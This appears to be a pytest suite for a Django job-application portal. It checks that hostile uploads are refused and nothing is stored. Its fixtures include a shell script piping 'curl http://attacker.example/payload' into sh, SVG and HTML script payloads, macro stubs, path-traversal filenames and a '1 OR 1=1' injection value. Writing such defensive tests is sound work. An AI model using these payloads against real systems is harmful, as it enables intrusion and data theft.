"""Hostile uploads: files are recognised by their bytes, names must be plain, and a refusal stores nothing.

Every refused submission goes through POST /api/v1/applications by a signed-in student on a published
offer (a few through the web form too) and leaves no application, no document row and no file behind.
Bodies are built by hand (`multipart_body`) so that the names reach the portal exactly as a hostile
client sends them: Django's test client would strip their folders first.
"""

import io
import re
import secrets
import zipfile
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from django.conf import settings
from PIL import Image

from portal.recruitment.models import Application, ApplicationDocument
from tests.recruitment.files import cv, docx_bytes, letter, odt_bytes, pdf_bytes, private_files, upload

APPLY_URL = "/api/v1/applications"
MB = 2**20


# Real bytes of what must never be taken for a CV.


def zip_bytes(entries: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_entries(document: bytes, entries: dict[str, str | bytes]) -> bytes:
    """`document` (a DOCX or an ODT) with more parts in its archive."""
    out = io.BytesIO(document)
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def without_entry(document: bytes, missing: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(document)) as source:
        return zip_bytes({name: source.read(name) for name in source.namelist() if name != missing})


def image_bytes(image_format: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, image_format)
    return out.getvalue()


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00>\x00\x01\x00\x00\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html><html><body><h1>CV</h1><script>fetch('/api/v1/me').then(r => r.text())</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
SHELL = b"#!/bin/sh\ncurl -s http://attacker.example/payload | sh\n"
PLAIN_ZIP = zip_bytes({"cv.pdf": pdf_bytes("Curriculum vitae"), "notes.txt": "Mon CV est dans l'archive."})
# A DOCX cut in the middle, as an interrupted download leaves it: local headers, no central directory.
CORRUPT_ZIP = docx_bytes()[: len(docx_bytes()) // 2]
DOCX_WITHOUT_BODY = without_entry(docx_bytes(), "word/document.xml")
DOCX_WITH_MACROS = with_entries(docx_bytes(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64})
ODT_WITH_MACROS = with_entries(
    odt_bytes(),
    {
        "Basic/script-lc.xml": '<library:libraries xmlns:library="http://openoffice.org/2000/library"/>',
        "Basic/Standard/Module1.xml": '<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>',
    },
)
ODT_WITHOUT_CONTENT = without_entry(odt_bytes(), "content.xml")
PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
GIF = image_bytes("GIF")
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times New Roman;}}\\f0\\fs24 Curriculum vitae\\par}"
TEXT = "Curriculum vitae\nTalel Jlassi\nDéveloppeur Python\n".encode()
PDF_WITHOUT_DASH = pdf_bytes("Curriculum vitae").replace(b"%PDF-", b"%PDF", 1)
SIX_MB_PDF = pdf_bytes("Curriculum vitae") + b"%" + b"0" * (6 * MB)


@dataclass(frozen=True)
class File:
    name: str
    content: bytes
    # Sent as `filename*=UTF-8''…` (RFC 2231), as some clients encode names.
    encoded_name: bool = False


GOOD_CV = File("cv.pdf", pdf_bytes("Curriculum vitae"))
GOOD_LETTER = File("lettre.pdf", pdf_bytes("Lettre de motivation"))


def multipart_body(fields: dict, files: list[tuple[str, File]]) -> tuple[bytes, str]:
    """A multipart/form-data body with the file names exactly as given, and its content type.

    Every file claims to be a PDF: the portal must look at the bytes, not at what the client says.
    """
    boundary = f"portal-form-{secrets.token_hex(12)}"
    chunks = []
    for name, value in fields.items():
        chunks.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for field, file in files:
        filename = f"filename*=UTF-8''{quote(file.name, safe='')}" if file.encoded_name else f'filename="{file.name}"'
        head = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; {filename}\r\n'
            "Content-Type: application/pdf\r\n\r\n"
        )
        chunks.append(head.encode() + file.content + b"\r\n")
    chunks.append(f"--{boundary}--\r\n".encode())
    return b"".join(chunks), f"multipart/form-data; boundary={boundary}"


@dataclass(frozen=True)
class Form:
    """What a student sends: by default a good CV and a good letter to the offer."""

    cv: File | None = GOOD_CV
    letter: File | None = GOOD_LETTER
    documents: tuple[File, ...] = ()
    message: str = "Madame, Monsieur, je vous propose ma candidature."
    to_offer: bool = True
    offer: str | None = None

    def body(self, offer) -> tuple[bytes, str]:
        fields = {"message": self.message}
        if self.to_offer:
            fields["offer"] = self.offer if self.offer is not None else offer.pk
        files = [("cv", self.cv)] if self.cv else []
        files += [("motivation_letter", self.letter)] if self.letter else []
        files += [("documents", document) for document in self.documents]
        return multipart_body(fields, files)


@dataclass(frozen=True)
class Refusal:
    """A hostile form and the answer expected: status, code, the field it is about and what it says (in French)."""

    form: Form
    status: int
    code: str
    field: str
    says: str


NOT_A_DOCUMENT = "n’est pas un document PDF, DOCX ou ODT."
NOT_PLAIN = "Le nom du fichier doit être un simple nom, sans dossier ni caractères de contrôle."
TOO_LARGE = "dépasse 5 Mo."


def type_refused(content: bytes, name: str = "cv.pdf") -> Refusal:
    return Refusal(Form(cv=File(name, content)), 415, "unsupported_file_type", "cv", NOT_A_DOCUMENT)


def name_refused(name: str, *, encoded: bool = False) -> Refusal:
    return Refusal(Form(cv=File(name, GOOD_CV.content, encoded_name=encoded)), 400, "error", "cv", NOT_PLAIN)


REFUSED = {
    # Recognised by content, whatever the name says.
    "windows_executable_named_pdf": type_refused(EXE),
    "elf_binary_named_pdf": type_refused(ELF),
    "html_page_named_pdf": type_refused(HTML),
    "svg_with_script_named_pdf": type_refused(SVG),
    "shell_script_named_pdf": type_refused(SHELL),
    "plain_zip_named_docx": type_refused(PLAIN_ZIP, "cv.docx"),
    "corrupt_zip_with_pk_header": type_refused(CORRUPT_ZIP, "cv.docx"),
    "docx_without_word_document": type_refused(DOCX_WITHOUT_BODY, "cv.docx"),
    "docx_with_vba_macros": type_refused(DOCX_WITH_MACROS, "cv.docx"),
    "odt_with_basic_macros": type_refused(ODT_WITH_MACROS, "cv.odt"),
    "odt_without_content": type_refused(ODT_WITHOUT_CONTENT, "cv.odt"),
    "png_image": type_refused(PNG),
    "jpeg_image": type_refused(JPEG),
    "gif_image": type_refused(GIF),
    "rtf_document": type_refused(RTF),
    "plain_text": type_refused(TEXT),
    "pdf_header_without_dash": type_refused(PDF_WITHOUT_DASH),
    # Sizes.
    "empty_cv": Refusal(Form(cv=File("cv.pdf", b"")), 400, "error", "cv", "Le fichier « cv.pdf » est vide."),
    "six_megabyte_cv": Refusal(Form(cv=File("cv.pdf", SIX_MB_PDF)), 413, "file_too_large", "cv", TOO_LARGE),
    "six_megabyte_further_document": Refusal(
        Form(documents=(File("diplome.pdf", SIX_MB_PDF),)), 413, "file_too_large", "documents", TOO_LARGE
    ),
    # Names that are not plain.
    "name_climbing_folders": name_refused("../../cv.pdf"),
    "name_with_windows_folders": name_refused("..\\..\\cv.pdf"),
    "absolute_path_name": name_refused("/etc/cron.d/cv.pdf"),
    "name_climbing_folders_rfc2231": name_refused("../../cv.pdf", encoded=True),
    "name_with_control_character": name_refused("cv\x07.pdf"),
    "name_with_escape_sequence": name_refused("cv\x1b[31m.pdf"),
    "name_with_right_to_left_override": name_refused("cv\u202efdp.exe"),
    "name_parent_folder": name_refused(".."),
    "name_current_folder": name_refused("."),
    # The shape of the submission.
    "six_files_in_all": Refusal(
        Form(documents=tuple(File(f"annexe-{n}.pdf", pdf_bytes(f"Annexe {n}")) for n in range(4))),
        400,
        "error",
        "documents",
        "Une candidature compte au plus 5 fichiers.",
    ),
    "missing_cv": Refusal(Form(cv=None), 400, "error", "cv", "Un CV est obligatoire."),
    "missing_letter": Refusal(
        Form(letter=None), 400, "error", "motivation_letter", "Une lettre de motivation est obligatoire."
    ),
    "good_cv_with_executable_letter": Refusal(
        Form(letter=File("lettre.pdf", EXE)), 415, "unsupported_file_type", "motivation_letter", NOT_A_DOCUMENT
    ),
    "good_cv_and_letter_with_macro_document": Refusal(
        Form(documents=(File("attestation.docx", DOCX_WITH_MACROS),)),
        415,
        "unsupported_file_type",
        "documents",
        NOT_A_DOCUMENT,
    ),
    "message_too_long": Refusal(
        Form(message="Madame, Monsieur, " * 300),
        400,
        "error",
        "message",
        "Le texte ne peut pas dépasser 5000 caractères.",
    ),
    "neither_offer_nor_company": Refusal(
        Form(to_offer=False), 400, "error", "offer", "Choisissez une offre ou une entreprise."
    ),
    "offer_not_a_number": Refusal(
        Form(offer="1 OR 1=1"), 400, "invalid", "offer", "Un nombre entier valide est requis."
    ),
}


def stored():
    """What a submission may leave behind: application rows, document rows, files in the private folder."""
    return Application.objects.count(), ApplicationDocument.objects.count(), private_files(settings.PRIVATE_ROOT)


@pytest.mark.django_db
@pytest.mark.parametrize("refusal", REFUSED.values(), ids=REFUSED.keys())
def test_hostile_submission_is_refused_with_its_status_and_stores_nothing(refusal, api_client, offer, applicant):
    # Given a student signed in, before a published offer
    api_client.force_authenticate(applicant)
    body, content_type = refusal.form.body(offer)
    before = stored()

    # When they send the hostile submission
    response = api_client.post(APPLY_URL, body, content_type=content_type)

    # Then it is refused with its status and the API's error format, about the faulty field
    assert response.status_code == refusal.status, response.content[:500]
    error = response.json()
    assert set(error) == {"detail", "code", "errors"}
    assert error["code"] == refusal.code
    assert list(error["errors"]) == [refusal.field]
    assert len(error["errors"][refusal.field]) == 1
    assert refusal.says in error["errors"][refusal.field][0]
    assert error["detail"]
    # And nothing is stored: no application, no document, no file
    assert before == (0, 0, [])
    assert stored() == before


@pytest.mark.django_db
def test_hand_built_form_with_good_files_is_accepted(api_client, offer, applicant, django_capture_on_commit_callbacks):
    # Given the same hand-built form as the refused submissions, with a good CV and a good letter
    api_client.force_authenticate(applicant)
    body, content_type = Form().body(offer)

    # When the student sends it
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.post(APPLY_URL, body, content_type=content_type)

    # Then it is accepted: the refusals above come from the hostile part alone
    assert response.status_code == 201, response.content[:500]
    assert sorted((d["kind"], d["name"]) for d in response.json()["documents"]) == [
        ("cv", "cv.pdf"),
        ("motivation_letter", "lettre.pdf"),
    ]
    assert len(private_files(settings.PRIVATE_ROOT)) == 2


@pytest.mark.django_db
def test_a_hundred_and_one_documents_are_refused_in_the_api_error_format(api_client, offer, applicant):
    # Given a student signed in, and a form flooded with one hundred and one small documents
    api_client.force_authenticate(applicant)
    flood = Form(documents=tuple(File(f"annexe-{n}.pdf", b"%PDF-1.4\n") for n in range(101)))
    body, content_type = flood.body(offer)

    # When they send it
    response = api_client.post(APPLY_URL, body, content_type=content_type)

    # Then it is refused as bad input, in the API's error format, and nothing is stored
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json"), response.content[:200]
    assert set(response.json()) == {"detail", "code", "errors"}
    assert stored() == (0, 0, [])


@pytest.mark.django_db
def test_a_message_larger_than_the_form_limit_is_refused_in_the_api_error_format(api_client, offer, applicant):
    # Given a student signed in, and a message field of three megabytes
    api_client.force_authenticate(applicant)
    body, content_type = Form(message="A" * (3 * MB)).body(offer)

    # When they send it
    response = api_client.post(APPLY_URL, body, content_type=content_type)

    # Then it is refused (too large), in the API's error format, and nothing is stored
    assert response.status_code in (400, 413)
    assert response["Content-Type"].startswith("application/json"), response.content[:200]
    assert set(response.json()) == {"detail", "code", "errors"}
    assert stored() == (0, 0, [])


@pytest.mark.django_db
def test_name_with_a_non_breaking_space_is_accepted(api_client, offer, applicant, django_capture_on_commit_callbacks):
    # Given a CV whose name holds a non-breaking space, as French typography writes it
    api_client.force_authenticate(applicant)
    named = Form(cv=File("CV\u00a0Talel Jlassi.pdf", GOOD_CV.content))
    body, content_type = named.body(offer)

    # When the student sends it
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.post(APPLY_URL, body, content_type=content_type)

    # Then it is accepted under that name: a space is neither a folder nor a control character
    assert response.status_code == 201, response.content[:500]
    assert {d["kind"]: d["name"] for d in response.json()["documents"]}["cv"] == "CV\u00a0Talel Jlassi.pdf"


# The web form: the same refusals, shown next to the field, nothing stored.


def apply_page(offer) -> str:
    return f"/candidatures/postuler/{offer.pk}/"


def field_errors(response, field: str) -> str:
    """The text of the error list rendered with `field` ("" when there is none)."""
    found = re.search(rf'<ul class="errorlist" id="id_{field}_error">(.*?)</ul>', response.content.decode(), re.S)
    return found.group(1) if found else ""


@pytest.mark.django_db
def test_web_form_shows_an_executable_cv_refused_next_to_the_cv_field(client, offer, applicant):
    # Given a student signed in on the offer's application page
    client.force_login(applicant)

    # When they send a Windows executable renamed cv.pdf
    response = client.post(
        apply_page(offer),
        {"message": "Bonjour", "cv": upload("cv.pdf", EXE, "application/pdf"), "motivation_letter": letter()},
    )

    # Then the page shows the refusal next to the CV field, and nothing is stored
    assert response.status_code == 200
    assert "Le fichier « cv.pdf » n’est pas un document PDF, DOCX ou ODT." in field_errors(response, "cv")
    assert field_errors(response, "motivation_letter") == ""
    assert stored() == (0, 0, [])


@pytest.mark.django_db
def test_web_form_shows_a_name_with_folders_refused_next_to_the_cv_field(client, offer, applicant):
    # Given a student signed in on the offer's application page
    client.force_login(applicant)
    body, content_type = multipart_body(
        {"message": "Bonjour"}, [("cv", File("../../cv.pdf", GOOD_CV.content)), ("motivation_letter", GOOD_LETTER)]
    )

    # When their client sends a CV named ../../cv.pdf
    response = client.post(apply_page(offer), body, content_type=content_type)

    # Then the page shows the refusal next to the CV field, and nothing is stored
    assert response.status_code == 200
    assert NOT_PLAIN in field_errors(response, "cv")
    assert stored() == (0, 0, [])


@pytest.mark.django_db
def test_web_form_shows_an_oversized_letter_refused_next_to_the_letter_field(client, offer, applicant):
    # Given a student signed in on the offer's application page
    client.force_login(applicant)

    # When they send a good CV with a six-megabyte letter
    response = client.post(
        apply_page(offer),
        {"message": "Bonjour", "cv": cv(), "motivation_letter": upload("lettre.pdf", SIX_MB_PDF, "application/pdf")},
    )

    # Then the page shows the refusal next to the letter field, and not even the good CV is stored
    assert response.status_code == 200
    assert "Le fichier « lettre.pdf » dépasse 5 Mo." in field_errors(response, "motivation_letter")
    assert field_errors(response, "cv") == ""
    assert stored() == (0, 0, [])


# What is accepted: stored under random names, downloaded as it was sent, never sniffed.


def apply_with(api_client, offer, files: dict, on_commit) -> dict:
    with on_commit(execute=True):
        response = api_client.post(APPLY_URL, {"offer": offer.pk, **files}, format="multipart")
    assert response.status_code == 201, response.content[:500]
    return response.json()


@pytest.mark.django_db
def test_accepted_documents_are_stored_in_the_private_folder_under_random_names(
    api_client, offer, applicant, django_capture_on_commit_callbacks
):
    # Given a student signed in
    api_client.force_authenticate(applicant)

    # When they apply with a PDF CV, a DOCX letter and an ODT certificate, named after themselves
    apply_with(
        api_client,
        offer,
        {
            "cv": upload("Talel-Jlassi-CV.pdf", pdf_bytes("Curriculum vitae")),
            "motivation_letter": upload("Talel-Jlassi-lettre.docx", docx_bytes()),
            "documents": [upload("Talel-Jlassi-attestation.odt", odt_bytes())],
        },
        django_capture_on_commit_callbacks,
    )

    # Then each file is in the private folder, under a random name with the extension of its content
    documents = {document.kind: document for document in ApplicationDocument.objects.all()}
    paths = [document.file.name for document in documents.values()]
    assert sorted(paths) == private_files(settings.PRIVATE_ROOT)
    assert all(re.fullmatch(r"applications/([0-9a-f]{2})/\1[0-9a-f]{30}\.(pdf|docx|odt)", path) for path in paths)
    assert {kind: document.file.name.rsplit(".", 1)[1] for kind, document in documents.items()} == {
        "cv": "pdf",
        "motivation_letter": "docx",
        "other": "odt",
    }
    assert not any("talel" in path.lower() or "jlassi" in path.lower() for path in paths)
    assert (settings.PRIVATE_ROOT / documents["cv"].file.name).read_bytes() == pdf_bytes("Curriculum vitae")


@pytest.mark.django_db
def test_download_answers_the_same_bytes_as_an_attachment_never_sniffed(
    api_client, offer, applicant, django_capture_on_commit_callbacks
):
    # Given an application sent with a DOCX letter (built once: a DOCX holds the time it was zipped)
    letter = docx_bytes("Madame, Monsieur")
    api_client.force_authenticate(applicant)
    sent = apply_with(
        api_client,
        offer,
        {"cv": cv(), "motivation_letter": upload("lettre.docx", letter)},
        django_capture_on_commit_callbacks,
    )
    letter_id = next(d["id"] for d in sent["documents"] if d["kind"] == "motivation_letter")

    # When the student downloads the letter
    response = api_client.get(f"{APPLY_URL}/{sent['id']}/documents/{letter_id}")

    # Then the same bytes come back, as an attachment the browser may not sniff
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == letter
    assert response["Content-Disposition"] == 'attachment; filename="lettre.docx"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.mark.django_db
def test_pdf_uploaded_as_exe_is_downloaded_under_a_pdf_name(
    api_client, offer, applicant, django_capture_on_commit_callbacks
):
    # Given a real PDF sent as the CV under the name cv.exe
    api_client.force_authenticate(applicant)
    sent = apply_with(
        api_client,
        offer,
        {"cv": upload("cv.exe", pdf_bytes("Curriculum vitae")), "motivation_letter": letter()},
        django_capture_on_commit_callbacks,
    )
    cv_id = next(d["id"] for d in sent["documents"] if d["kind"] == "cv")

    # When it is downloaded
    response = api_client.get(f"{APPLY_URL}/{sent['id']}/documents/{cv_id}")

    # Then it is saved under a name ending in .pdf, as the PDF it is
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="cv.pdf"'
    assert response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content) == pdf_bytes("Curriculum vitae")
